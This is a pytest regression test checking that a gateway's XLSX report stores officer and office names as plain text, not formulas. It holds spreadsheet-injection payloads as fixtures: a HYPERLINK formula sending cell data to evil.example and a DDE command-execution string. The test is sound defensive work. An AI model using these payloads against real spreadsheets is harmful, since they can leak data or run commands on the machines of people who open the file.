"""Names in a report's spreadsheet are text, never formulas (real gateway, real Mosquitto, openpyxl).

Before, openpyxl stored any string starting with "=" as a formula: an officer id a kiosk reported
(free text in the contract) or an office name set through the admin API such as
``=HYPERLINK("http://evil.example/?"&B2,"x")`` became a live formula in the file the office head
opens, able to send the sheet's figures to another site or, with DDE, run a command. And a control
character in a name (``"cb\x07-01"``) made openpyxl raise: the whole report's XLSX was a 500."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest

from tests.gateway.conftest import wait_for
from tests.gateway.kiosk_sim import EventFactory, Publisher

OFFICER = '=HYPERLINK("http://evil.example/?"&B2,"officer")'
OFFICE_NAME = "=cmd|' /C calc'!A0"
BELL = "cb\x07-01\x1b[31m"


@pytest.mark.parametrize("officer,office_name,shown", [
    (OFFICER, OFFICE_NAME, (OFFICER, f"{OFFICE_NAME} (03390)")),
    (BELL, "Bộ phận\x00 Một cửa", ("cb\ufffd-01\ufffd[31m", "Bộ phận\ufffd Một cửa (03390)")),
])
def test_names_in_the_xlsx_are_text_not_formulas(mosquitto, gateway_factory, officer, office_name, shown):
    gw = gateway_factory(mosquitto.url)
    r = gw.admin.put("/api/v1/offices/03390", json={"name": office_name})
    assert r.status_code == 200, r.text
    fac, pub = EventFactory("k03390-q1", "03390"), Publisher(mosquitto.port)
    today = gw.app.state.kpi.today()
    start = datetime.now(UTC) - timedelta(minutes=30)
    for no in range(1, 4):
        issued = start + timedelta(minutes=5 * no)
        for ev in fac.visit(no, today, issued, 60.0, 120.0, officer=officer):
            pub.event(ev)
        pub.event(fac.rating(no, today, 3, issued + timedelta(seconds=200), officer=officer))
    pub.flush()
    pub.close()
    q = {"period": "month", "year": today.year, "index": today.month}
    wait_for(lambda: [o["officer_id"] for o in gw.admin.get("/api/v1/reports/office/03390", params=q)
                      .json()["officers"]] == [officer], timeout=60, what="the officer in the report")

    r = gw.admin.get("/api/v1/reports/office/03390/xlsx", params=q)
    assert r.status_code == 200, r.text
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    cell, title = wb["Theo cán bộ"]["A2"], wb["Tổng hợp"]["B1"]
    assert (cell.value, title.value) == shown
    assert cell.data_type == title.data_type == "s"
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert gw.admin.get("/api/v1/reports/office/03390/pdf", params=q).status_code == 200  # the same names
